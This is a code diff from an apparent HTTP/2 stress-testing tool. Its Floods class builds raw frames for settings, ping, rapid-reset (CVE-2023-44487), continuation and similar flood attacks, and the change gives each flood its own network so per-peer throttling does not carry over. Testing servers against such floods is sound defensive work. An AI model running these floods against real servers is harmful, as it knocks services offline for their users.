@@ -22,12 +22,12 @@ final class Floods {
         byte[] priority = RawHttp2.frame(RawHttp2.PRIORITY, 0, 1, new byte[] {0, 0, 0, 3, 7});
         byte[] window = RawHttp2.frame(RawHttp2.WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1});
         return List.of(
-                flood("settings-flood", _ -> settings),
-                flood("reset-flood", Floods::callAndReset),
-                flood("ping-flood", _ -> ping),
-                flood("empty-frame-flood", _ -> priority),
-                flood("window-update-flood", _ -> window),
-                flood("continuation-flood", Floods::continued));
+                flood(1, "settings-flood", _ -> settings),
+                flood(2, "reset-flood", Floods::callAndReset),
+                flood(3, "ping-flood", _ -> ping),
+                flood(4, "empty-frame-flood", _ -> priority),
+                flood(5, "window-update-flood", _ -> window),
+                flood(6, "continuation-flood", Floods::continued));
     }
 
     /** "Rapid reset", CVE-2023-44487. */
@@ -49,13 +49,16 @@ final class Floods {
         return RawHttp2.frame(RawHttp2.CONTINUATION, 0, 1, block.toByteArray());
     }
 
-    /** @param frames by their number on the connection */
-    private static Attack flood(String name, IntFunction<byte[]> frames) {
+    /**
+     * @param network of its own, for a peer that has flooded is slowed, and the next flood would be, too
+     * @param frames by their number on the connection
+     */
+    private static Attack flood(int network, String name, IntFunction<byte[]> frames) {
         return Attack.plain(
                 name,
                 (front, raid) -> Together.of(CONNECTIONS, raid, number -> {
                     while (raid.goesOn()) {
-                        once(front, raid, number, frames);
+                        once(front, raid, (network << 8) + number, frames);
                     }
                 }));
     }
